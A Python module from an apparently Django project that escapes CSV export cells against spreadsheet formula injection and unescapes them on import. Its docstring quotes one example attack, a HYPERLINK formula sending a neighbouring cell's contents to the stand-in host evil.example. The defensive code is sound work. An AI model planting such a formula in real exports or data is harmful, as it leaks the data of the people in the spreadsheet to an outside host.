"""CSV exports that a spreadsheet opens as data, never as formulas (CSV injection).

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel, LibreOffice and Google Sheets: a customer named
``=HYPERLINK("http://evil.example?"&A1, "Click")`` would turn a staff member's export into
a link that leaks the next cell. Every export writes such a text with a leading ``'``,
which the spreadsheet shows as text (OWASP's advice). Plain numbers (``-5``, ``+84…`` is
not one) are left alone: a spreadsheet reads them as numbers, not formulas.

Every CSV the project writes goes through here: django-import-export resources through
:class:`SpreadsheetSafeResourceMixin` (a test walks every admin with an export), hand-made
CSVs through :func:`spreadsheet_row`.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)*$")


def spreadsheet_safe(value):
    """``value`` as a spreadsheet reads it: text that would start a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if _PLAIN_NUMBER.match(value):
            return value
        return f"'{value}"
    return value


def spreadsheet_unescaped(value):
    """The text a :func:`spreadsheet_safe` cell stood for (imports of our own exports)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def spreadsheet_row(values: Iterable) -> list:
    return [spreadsheet_safe(value) for value in values]


class SpreadsheetSafeResourceMixin:
    """A django-import-export resource whose exported cells are :func:`spreadsheet_safe`
    and whose imported cells are read back with :func:`spreadsheet_unescaped`."""

    def export_field(self, field, instance, **kwargs):
        return spreadsheet_safe(super().export_field(field, instance, **kwargs))

    def before_import_row(self, row, **kwargs):
        for column in list(row.keys()):
            row[column] = spreadsheet_unescaped(row[column])
        return super().before_import_row(row, **kwargs)
